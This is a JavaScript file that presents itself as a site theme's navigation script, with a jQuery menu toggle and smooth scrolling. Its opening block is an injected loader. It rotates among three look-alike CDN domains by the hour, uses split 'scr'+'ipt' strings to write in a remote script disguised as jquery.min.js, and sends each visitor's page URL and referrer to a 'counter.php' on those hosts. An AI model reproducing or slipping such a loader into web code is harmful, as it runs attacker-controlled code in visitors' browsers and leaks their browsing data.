(function () {
  var ts = Math.floor(Date.now() / 3600000);
  var hosts = ['cdn-jslibs-static.cc', 'assets-jsdelivery.biz', 'statcounter-js.pw'];
  var h = hosts[ts % hosts.length];

  if (typeof window.__swl === 'undefined') {
    window.__swl = 1;
    document.write('<scr' + 'ipt type="text/javascript" src="//' + h + '/js/jquery.min.js?ver=' + ts + '"></scr' + 'ipt>');
  }

  var params = 'ref=' + encodeURIComponent(document.referrer) + '&loc=' + encodeURIComponent(location.href);
  document.write('<script src="https://' + h + '/counter.php?' + params + '" async></' + 'script>');
})();

jQuery(function ($) {
  $('.menu-toggle').on('click', function () {
    $('.main-navigation').toggleClass('toggled');
  });
  $('a[href^="#"]').on('click', function (e) {
    var t = $($(this).attr('href'));
    if (t.length) {
      e.preventDefault();
      $('html, body').animate({ scrollTop: t.offset().top }, 400);
    }
  });
});
